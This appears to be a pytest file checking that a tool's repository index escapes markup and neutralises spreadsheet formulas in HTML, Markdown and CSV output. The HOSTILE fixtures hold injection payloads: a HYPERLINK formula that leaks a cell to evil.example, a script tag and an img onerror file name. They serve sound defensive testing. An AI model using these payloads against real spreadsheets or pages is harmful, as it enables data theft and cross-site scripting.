"""`ogpctl index`: the repository index in Markdown, HTML, JSON and CSV; escaping, no
formula injection, deterministic bytes, and the command line."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC
from pathlib import Path

import pytest

from ogpctl.base.sheets import neutralise, restore
from ogpctl.base.vcs import read_history
from ogpctl.domain.document_repository import build_index
from ogpctl.record.load import load_record
from ogpctl.render.index import FORMATS, write_index
from tests import gitrepo
from tests.conftest import ROOT, run
from tests.gitrepo import commit, commit_sample

COMMITMENT = "plans/2026-2030/commitments/04-justice-open-data.yaml"
FOLDER = "plans/2026-2030/evidence/04-justice-open-data"
HOSTILE = {
    "formula.csv": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "plus.csv": "+1",
    "minus.csv": "-2",
    "at.csv": "@SUM(A1:A9)",
    "script.md": "<script>alert(1)</script>",
}


def _hostile(root: Path) -> None:
    """Evidence cited with titles that are formulas or markup, and a file named as HTML."""
    folder = root / FOLDER
    lines = ["  - title: " + json.dumps({"en": title, "es": title})
             + "\n    path: evidence/04-justice-open-data/"
             + name + "\n" for name, title in HOSTILE.items()]
    for name in HOSTILE:
        (folder / name).write_text("x\n", encoding="utf-8")
    (folder / "<img src=x onerror=alert(1)>.md").write_text("x\n", encoding="utf-8")
    (folder / "=cmd.csv").write_text("x\n", encoding="utf-8")
    target = root / COMMITMENT
    text = target.read_text(encoding="utf-8")
    assert "\nevidence:\n" in text
    target.write_text(text.replace("\nevidence:\n", "\nevidence:\n" + "".join(lines), 1),
                      encoding="utf-8")


def _render(root: Path, fmt: str, links_from: str | None = None) -> bytes:
    record = load_record(root)
    return write_index(record, build_index(record, read_history(root)), fmt, links_from)


def test_hostile_titles_are_valid_record_text(sample: Path, capsys) -> None:
    _hostile(sample)
    code, out, _ = run(capsys, "check", sample, "--today", "2026-11-23", "--no-cache",
                       "--format", "json")
    found = {(d["file"], d["code"]) for d in json.loads(out)["diagnostics"]
             if d["severity"] == "error"}
    # the titles are fine; the two file names that are markup and a formula are F117
    assert found == {(f"{FOLDER}/<img src=x onerror=alert(1)>.md", "F117"),
                     (f"{FOLDER}/=cmd.csv", "F117")}, out


def test_csv_neutralises_formulas(tmp_path: Path, monkeypatch) -> None:
    monkeypatch.setitem(gitrepo.IDENTITY, "GIT_AUTHOR_NAME", "=2+5")
    root = commit_sample(tmp_path / "repo")
    _hostile(root)
    commit(root, "Hostile titles", "2026-11-21T10:00:00+00:00")
    data = _render(root, "csv")
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    assert all(line.startswith('"') and line.endswith('"') for line in text.split("\r\n")
               if line)                                     # every cell quoted
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0][:3] == ["plan", "commitment", "folder"]
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    for title in HOSTILE.values():
        if title[0] in "=+-@":
            assert "'" + title in cells
    assert "'=cmd.csv" in cells and "'=2+5" in cells
    assert len({len(row) for row in rows}) == 1


@pytest.mark.parametrize("value, expected", [
    ("=1+2", "'=1+2"), ("+1", "'+1"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("＝1", "'＝1"), ("plain", "plain"), (1234, "1234"),
    (None, ""), ("2026-11-23", "2026-11-23"),
    (" @SUM(1)", "' @SUM(1)"), ("  =1+2", "'  =1+2"), ("\n-2", "'\n-2"),
    ("\u3000＠x", "'\u3000＠x"), ("\u00a0+1", "'\u00a0+1"), (" plain", " plain")])
def test_neutralise(value, expected) -> None:
    """Also after leading blanks (a spreadsheet may trim a cell before reading it), and
    `restore` gives back the text as the record keeps it, trimmed like every cell read."""
    assert neutralise(value) == expected
    if isinstance(value, str):
        assert restore(neutralise(value)) == value.strip()


def test_markup_in_record_text_is_escaped(sample: Path) -> None:
    _hostile(sample)
    html = _render(sample, "html").decode("utf-8")
    assert "<script>" not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "<img" not in html and "&lt;img src=x onerror=alert(1)&gt;" in html
    markdown = _render(sample, "md").decode("utf-8")
    assert "<script>" not in markdown and "\\<script\\>alert(1)\\</script\\>" in markdown


def test_html_is_a_self_contained_accessible_page(sample: Path) -> None:
    html = _render(sample, "html").decode("utf-8")
    assert html.startswith("<!DOCTYPE html>") and '<html lang="en"' in html
    assert "default-src 'none'" in html and "<script" not in html
    assert html.count("<h1>") == 1 and '<th scope="col"><p>Evidence</p></th>' in html
    assert "<caption>" in html
    assert '<a href="https://standard.open-contracting.org/latest/en/guidance/map/' \
           'implementation/"' in html


@pytest.mark.parametrize("fmt", FORMATS)
def test_output_is_deterministic(tmp_path: Path, fmt: str) -> None:
    root = commit_sample(tmp_path / "repo")
    assert _render(root, fmt) == _render(root, fmt)
    assert _render(root, fmt, "") == _render(root, fmt, "")


def test_json_has_stable_keys_and_iso_dates(tmp_path: Path) -> None:
    root = commit_sample(tmp_path / "repo")
    document = json.loads(_render(root, "json"))
    assert set(document) == {"history", "plans"} and document["history"] == ""
    plan = document["plans"][0]
    assert set(plan) == {"plan", "folders", "uncited", "without_evidence"}
    item = plan["folders"][0]["items"][1]
    assert set(item) == {"plan", "folder", "path", "url", "title", "kind", "size",
                         "last_change", "cited_by"}
    assert item["last_change"]["date"] == "2024-05-22"
    assert item["last_change"]["time"] == "2024-05-22T10:00:00+00:00"
    assert list(item) == sorted(item)


def test_markdown_links_files_relative_to_where_it_is_written(sample: Path) -> None:
    markdown = _render(sample, "md", "docs").decode("utf-8")
    assert "(<../plans/2026-2030/evidence/process/outreach-sessions-2026.csv>)" in markdown
    assert "](<" not in _render(sample, "md").decode("utf-8").split("implementation/>")[0] \
        .replace("(<https://", "")


# -- the command line ---------------------------------------------------------------------

def test_help_and_readme(capsys) -> None:
    code, out, _ = run(capsys, "index", "--help")
    assert code == 0 and "Usage:" in out and "--format" in out
    assert "ogpctl index" in (ROOT / "README.md").read_text(encoding="utf-8")
    assert (ROOT / "docs" / "repository.md").is_file()


def test_cli_formats(sample: Path, capsys) -> None:
    code, out, _ = run(capsys, "index", sample, "--plan", "2023-2025", "-f", "json")
    assert code == 0 and [p["plan"] for p in json.loads(out)["plans"]] == ["2023-2025"]
    code, out, _ = run(capsys, "index", sample)
    assert code == 0 and out.startswith("# Document repository: Republic of Veridia")
    code, _, err = run(capsys, "index", sample, "--plan", "1999-2001")
    assert code == 2 and "no plan" in err


def test_cli_out_refuses_a_file_it_did_not_write(sample: Path, capsys) -> None:
    target = sample / "INDEX.md"
    assert run(capsys, "index", sample, "--out", target)[0] == 0
    assert "](<plans/2026-2030/evidence/" in target.read_text(encoding="utf-8")
    assert run(capsys, "index", sample, "--out", target)[0] == 0      # its own file
    target.write_text("edited by hand\n", encoding="utf-8")
    code, _, err = run(capsys, "index", sample, "--out", target, "-f", "csv")
    assert code == 2 and "not written by ogpctl" in err
    assert target.read_text(encoding="utf-8") == "edited by hand\n"
    assert run(capsys, "index", sample, "--out", target, "--force")[0] == 0


def test_an_author_name_that_is_not_utf8_is_written_safely(sample: Path) -> None:
    from datetime import datetime

    from ogpctl.base.vcs import GIT, Change, History

    record = load_record(sample)
    history = History(GIT)
    path = "plans/2026-2030/evidence/process/outreach-sessions-2026.csv"
    history.last[path] = Change("a" * 40, datetime(2026, 1, 20, tzinfo=UTC),
                                "Jos\udce9")        # how git hands over a Latin-1 name
    index = build_index(record, history)
    for fmt in FORMATS:
        assert "Jos\ufffd" in write_index(record, index, fmt).decode("utf-8-sig")
